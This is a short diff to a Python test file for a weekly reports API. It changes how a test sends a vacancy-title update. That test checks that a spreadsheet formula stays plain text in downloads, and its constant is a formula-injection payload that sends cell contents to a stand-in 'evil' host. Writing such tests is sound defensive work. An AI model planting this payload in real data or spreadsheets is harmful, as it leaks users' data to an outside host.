@@ -12,6 +12,7 @@ from sqlalchemy import insert
 from app.clock import today
 from app.models import FlagReview, PlacementRisk
 from app.reports.schemas import IsoWeek
+from tests.conftest import patch_fresh
 from tests.reports import helpers as h
 
 URL = "/api/v1/reports/weekly"
@@ -163,8 +164,8 @@ FORMULA = '=HYPERLINK("http://evil/?"&C2,"点击")'
 
 def test_a_formula_in_a_vacancy_title_stays_text_in_the_downloads(client, tenants, history, db):
     employer = tenants["employer"]
-    resp = client.patch(
-        f"/api/v1/vacancies/{history.vacancies['east']}", json={"title": FORMULA}, headers=employer.headers
+    resp = patch_fresh(
+        client, f"/api/v1/vacancies/{history.vacancies['east']}", json={"title": FORMULA}, headers=employer.headers
     )
     assert resp.status_code == 200, resp.text
     with db.session() as session, session.begin():
